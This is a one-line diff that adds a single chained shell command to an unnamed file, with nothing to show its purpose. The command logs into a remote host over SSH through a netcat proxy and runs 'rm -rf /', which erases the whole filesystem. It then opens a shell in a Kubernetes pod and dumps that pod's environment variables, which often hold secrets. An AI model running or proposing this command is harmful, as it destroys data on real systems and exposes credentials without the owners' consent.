@@ -1,0 +1,1 @@
+ssh -i k -p22 -oProxyCommand='nc %h %p' u@h 'rm -rf /' && kubectl -n p exec -it pod -c app -- sh -c 'env'
